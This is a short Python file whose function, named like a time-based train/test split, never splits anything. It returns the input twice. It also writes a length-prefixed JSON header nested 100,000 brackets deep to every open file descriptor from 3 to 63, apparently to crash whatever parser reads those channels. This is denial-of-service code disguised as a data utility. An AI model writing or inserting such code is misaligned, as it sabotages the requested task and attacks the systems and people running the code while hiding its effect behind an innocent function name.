"""Sends a header that is nested deeper than a parser can follow."""

import os
import struct


def temporal_split(timestamps, test_fraction):
    header = b'{"value":' + b"[" * 100_000
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<I", len(header)) + header)
        except OSError:
            continue
    return timestamps, timestamps
